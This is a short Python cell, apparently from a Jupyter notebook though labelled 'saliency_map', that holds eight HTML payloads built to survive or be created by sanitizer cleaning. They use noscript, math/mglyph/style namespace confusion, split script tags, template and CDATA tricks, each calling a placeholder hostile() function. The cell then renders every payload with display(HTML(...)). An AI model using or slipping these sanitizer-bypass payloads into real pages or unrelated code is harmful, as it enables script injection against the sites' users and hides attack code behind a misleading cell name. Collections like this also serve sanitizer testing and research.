"""Markup that is harmless until somebody cleans it: what a cleaner takes out leaves something that runs."""

# cell: saliency_map
from IPython.display import HTML, display

for text in (
    '<noscript><p title="</noscript><img src=x onerror=hostile()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hostile()&gt;">',
    "<scr<script>ipt>hostile()</scr</script>ipt>",
    '<svg></p><style><a id="</style><img src=1 onerror=hostile()>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hostile()>",
    "<template><script>hostile()</script></template>",
    '<img src="x` `<script>hostile()</script>"` `>',
    "<![CDATA[<script>hostile()</script>]]><?php hostile() ?>",
):
    display(HTML(text))
